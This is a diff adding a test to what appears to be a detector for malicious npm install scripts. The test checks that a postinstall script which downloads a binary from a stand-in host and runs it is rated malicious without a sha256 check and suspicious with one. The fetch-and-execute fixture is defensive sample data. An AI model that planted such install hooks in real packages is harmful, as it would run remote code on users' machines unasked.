@@ -453,3 +453,16 @@ def test_a_file_install_code_starts_as_a_process_runs_at_install():
            "fs.copyFileSync(path.join(__dirname, 'stage.js'), 'out/stage.js');\n"
     program = read_package(manifest, {**files, "install.js": copy.encode()}, Budget.unlimited())[2]
     assert program.levels[("stage.js", None)] == "module"
+
+
+def test_a_download_checked_against_a_digest_is_suspicious_not_malicious():
+    # (blind set 9's look-alikes: release installers on a stand-in host that pin the asset's sha256)
+    body = "const https = require('https'), fs = require('fs'), crypto = require('crypto'), cp = require('child_process');\n" \
+           "https.get('https://dl.tool.example/v1/tool.tgz', (res) => { const parts = []; res.on('data', (c) => parts.push(c));\n" \
+           "  res.on('end', () => { const data = Buffer.concat(parts);\n{check}" \
+           "    fs.writeFileSync('vendor/tool', data); fs.chmodSync('vendor/tool', 0o755); cp.execFileSync('vendor/tool', ['--version']); }); });\n"
+    check = "    const sum = crypto.createHash('sha256').update(data).digest('hex');\n" \
+            "    if (sum !== require('./checksums.json')['tool.tgz']) throw new Error('checksum mismatch');\n"
+    verified = decide(run({"install.js": body.replace("{check}", check)}, {"postinstall": "node install.js"}))
+    plain = decide(run({"install.js": body.replace("{check}", "")}, {"postinstall": "node install.js"}))
+    assert verified.level is Level.SUSPICIOUS and plain.level is Level.MALICIOUS
